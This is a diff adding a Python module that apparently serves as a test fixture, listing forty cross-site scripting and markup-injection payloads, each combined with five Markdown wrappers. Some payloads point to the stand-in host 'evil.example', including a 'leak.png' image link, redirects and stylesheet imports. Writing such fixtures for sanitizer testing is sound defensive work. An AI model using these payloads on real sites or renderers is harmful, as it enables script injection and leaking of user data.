@@ -1,0 +1,48 @@
+"""Two hundred ways to smuggle markup: forty payloads, each bare and in four dresses of Markdown."""
+
+BITES = "window.hacked=1"
+FOREIGN = "http://evil.example"
+PAYLOADS = (
+    f"<script>{BITES}</script>",
+    f'<img src=x onerror="{BITES}">',
+    f'<svg onload="{BITES}">',
+    f'"><img src={FOREIGN}/x onerror={BITES}>',
+    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
+    f"javascript:{BITES}",
+    f"[click](javascript:{BITES})",
+    f"![x]({FOREIGN}/leak.png)",
+    f"<a href='javascript:{BITES}'>x</a>",
+    f"</style><script>{BITES}</script>",
+    f"<math><mtext><table><img src=x onerror={BITES}>",
+    f"{{{{constructor.constructor('{BITES}')()}}}}",
+    f"${{{BITES}}}",
+    f"</textarea><script>{BITES}</script>",
+    f"<details open ontoggle={BITES}>x",
+    f"<body onload={BITES}>",
+    f"<input autofocus onfocus={BITES}>",
+    "<iframe src='javascript:parent.hacked=1'></iframe>",
+    f"\u202e<script>{BITES}</script>",
+    f"<video><source onerror={BITES} src=x></video>",
+    f"<audio src=x onerror={BITES}>",
+    f"<style>@import '{FOREIGN}/x.css';</style>",
+    f"<link rel=stylesheet href={FOREIGN}/y.css>",
+    f"<meta http-equiv=refresh content='0;url={FOREIGN}/'>",
+    f"<base href={FOREIGN}/><img src=z>",
+    f"<form action={FOREIGN}/><button autofocus onfocus={BITES}>x</button></form>",
+    f"<svg><set onbegin={BITES} attributeName=x>",
+    f"<svg><animate onbegin={BITES} attributeName=x dur=1s>",
+    f"<svg><script>{BITES}</script></svg>",
+    f"<img srcset='{FOREIGN}/y 1x'>",
+    f'<div style="background:url({FOREIGN}/z)">x</div>',
+    f"<style onload={BITES}></style>",
+    f"<img src=x:x onerror=eval('{BITES}')>",
+    f"<IMG SRC=x OnErRoR={BITES}>",
+    f'<img/src="x"/onerror={BITES}>',
+    f"&lt;script&gt;{BITES}&lt;/script&gt;",
+    f"--><script>{BITES}</script>",
+    f"]]><script>{BITES}</script>",
+    f'<noscript><p title="</noscript><img src=x onerror={BITES}>">',
+    f"data:text/html,<script>{BITES}</script>",
+)
+DRESSES = ("{}", "vector {} databases", "- **{}**", "`{}`", "| {} | b |")
+ATTACKS = tuple(dress.replace("{}", payload) for payload in PAYLOADS for dress in DRESSES)
